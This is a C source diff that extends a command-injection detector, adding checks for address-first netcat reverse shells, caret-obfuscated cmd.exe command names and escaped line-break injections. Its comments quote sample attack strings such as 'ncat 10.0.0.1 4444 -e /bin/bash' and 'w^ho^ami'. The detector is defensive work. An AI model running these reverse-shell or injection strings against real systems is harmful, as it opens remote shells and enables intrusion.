@@ -690,7 +690,10 @@ static bool interpreter_line(const char *s, size_t n)
     if (!is_net && !in_list(cw.w, cw.l, tools, sizeof tools / sizeof tools[0]))
         return false;
     size_t i = skip_blanks(s, n, cw.end);
-    if (i == cw.end || i + 1 >= n || s[i] != '-' || !is_alpha((unsigned char)s[i + 1]))
+    bool option = i > cw.end && i + 1 < n && s[i] == '-' && is_alpha((unsigned char)s[i + 1]);
+    /* "ncat 10.0.0.1 4444 -e /bin/bash": netcat may take its address first, then a shell */
+    if (!option && !(is_net && i > cw.end && i < n && is_digit((unsigned char)s[i]) &&
+                     memmem(s + i, n - i, " /", 2)))
         return false;
     for (; i + 1 < n; i++)
         if (is_space((unsigned char)s[i]) &&
@@ -700,6 +703,19 @@ static bool interpreter_line(const char *s, size_t n)
     return false;
 }
 
+/* "w^ho^ami", "^net user": a command name cut by cmd.exe carets opens the value. */
+static bool split_name_at_start(const char *s, size_t n)
+{
+    struct cword cw;
+    size_t i = skip_blanks(s, n, 0);
+    if (!read_word(s, n, i, &cw) || !cw.split)
+        return false;
+    size_t e = cw.end;
+    if (e < n && !is_space((unsigned char)s[e]) && !strchr(";|&", s[e]))
+        return false;
+    return any_list(cw.w, cw.l) || windows_command(cw.w, cw.l, false, s, n, e, true);
+}
+
 /* A literal "\n" or "\r" standing for a line break, then a command: "\nid\n", "\n/bin/ls". */
 static bool escaped_break_command(const char *s, size_t n)
 {
@@ -707,9 +723,11 @@ static bool escaped_break_command(const char *s, size_t n)
         size_t i = (size_t)(p - s);
         if (!escaped_break(s, n, i))
             continue;
-        /* "C:\new", "a\nb": a break follows no letter, digit or drive colon */
-        if (i > 0 && (is_alpha((unsigned char)s[i - 1]) || is_digit((unsigned char)s[i - 1]) ||
-                      s[i - 1] == ':'))
+        /* "C:\new", "a\nb": a break (or a run of them, "\r\n") follows no letter or drive colon */
+        size_t b = i;
+        while (b >= 2 && escaped_break(s, n, b - 2))
+            b -= 2;
+        if (b > 0 && (is_alpha((unsigned char)s[b - 1]) || s[b - 1] == ':'))
             continue;
         if (command_at(s, n, i + 2, true))
             return true;
@@ -729,6 +747,8 @@ bool tld_cmdi_detect(const char *s, size_t n)
     /* "uname -a", "ipconfig /all": a reconnaissance command with options as the whole value */
     const char *blank = n < 64 ? memchr(s, ' ', n) : NULL;
     if (blank && blank + 1 < s + n && (blank[1] == '-' || blank[1] == '/') && recon_line(s, n))
+        return true;
+    if (memchr(s, '^', n) && split_name_at_start(s, n))
         return true;
     unsigned m = 0;
     for (size_t i = 0; i < n; i++)
